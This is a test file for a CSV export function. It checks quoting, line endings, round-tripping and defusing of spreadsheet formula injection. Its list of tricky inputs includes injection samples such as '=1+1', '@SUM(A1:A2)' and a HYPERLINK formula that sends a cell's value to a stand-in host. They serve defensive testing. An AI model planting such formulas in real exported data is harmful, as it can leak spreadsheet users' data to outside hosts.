import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv, type CsvValue } from '../server/modules/reporting/csv.ts';

const HIDDEN = 'suppressed';

/** Reads a file back the way a careful consumer would: BOM understood, quotes honoured. */
function read(csv: string): string[][] {
  return parse(csv, { bom: true, relaxColumnCount: false }) as string[][];
}

/** What a cell reads back as: numbers as their digits, hidden as the marker, risky text behind a quote. */
function expected(cell: CsvValue): string {
  if (cell === null) return HIDDEN;
  if (typeof cell === 'number') return String(cell);
  return /^[=+\-@\t\r\0]/.test(cell) ? `'${cell}` : cell;
}

const TRICKY = [
  'plain',
  '',
  ' leading and trailing space ',
  'comma, inside',
  'semicolon; inside',
  'quote " inside',
  '"fully quoted"',
  'line\nbreak',
  'windows\r\nbreak',
  'ends with CR\r',
  '=1+1',
  '=HYPERLINK("http://example.test/?"&A1,"Click")',
  '+41 22 000 00 00',
  '-2+3',
  '@SUM(A1:A2)',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  '\0starts with NUL',
  "'already quoted",
  'Soins intensifs – équipe de nuit 🙂',
  'Ω≈ç√∫',
];

describe('toCsv', () => {
  it('writes a BOM, CRLF line ends, quoted text and bare numbers', () => {
    const csv = toCsv(['Reason', 'Jan', 'Feb'], [['Burnout', 12, null]], HIDDEN);
    expect(csv).toBe('\uFEFF"Reason","Jan","Feb"\r\n"Burnout",12,"suppressed"\r\n');
  });

  it('defuses text a spreadsheet would run as a formula, and leaves negative numbers as numbers', () => {
    const csv = toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [['=1+1', '+1', '-1', '@A1', -3, 0.25]], HIDDEN);
    expect(csv.split('\r\n')[1]).toBe(`"'=1+1","'+1","'-1","'@A1",-3,0.25`);
  });

  it('puts the same care into the hidden marker and the header', () => {
    const csv = toCsv(['=cmd'], [[null]], '-');
    expect(csv).toBe(`\uFEFF"'=cmd"\r\n"'-"\r\n`);
  });

  it('reads back tricky values exactly, apart from the formula guard', () => {
    const rows: CsvValue[][] = TRICKY.map((text, i) => [text, i, -i, i / 8, null]);
    const header = ['text', 'count', 'negative', 'share', 'hidden'];
    expect(read(toCsv(header, rows, HIDDEN))).toEqual([header, ...rows.map((row) => row.map(expected))]);
  });

  it('reads back any text and number', () => {
    const cell: fc.Arbitrary<CsvValue> = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.constantFrom(...TRICKY),
      fc.integer({ min: -1_000_000, max: 1_000_000 }),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constant(null),
    );
    fc.assert(
      fc.property(
        fc
          .integer({ min: 1, max: 5 })
          .chain((width) =>
            fc.tuple(
              fc.array(fc.string({ unit: 'binary' }), { minLength: width, maxLength: width }),
              fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 6 }),
            ),
          ),
        ([header, rows]) => {
          const back = read(toCsv(header, rows, HIDDEN));
          expect(back).toEqual([header.map(expected), ...rows.map((row) => row.map(expected))]);
          // A number reads back as the same number (-0 as 0).
          rows.forEach((row, r) =>
            row.forEach((value, c) => {
              if (typeof value === 'number') expect(Number(back[r + 1]![c])).toBe(value === 0 ? 0 : value);
            }),
          );
        },
      ),
      { numRuns: 200 },
    );
  });

  it('writes -0 as 0 and refuses numbers that are not finite', () => {
    expect(toCsv(['n'], [[-0]], HIDDEN)).toBe('\uFEFF"n"\r\n0\r\n');
    for (const n of [Number.NaN, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY]) {
      expect(() => toCsv(['n'], [[n]], HIDDEN)).toThrow(RangeError);
    }
  });

  it('refuses a row that does not match the header', () => {
    expect(() => toCsv(['a', 'b'], [['only one']], HIDDEN)).toThrow(RangeError);
  });

  it('writes only the header for no rows', () => {
    expect(toCsv(['a'], [], HIDDEN)).toBe('\uFEFF"a"\r\n');
  });
});
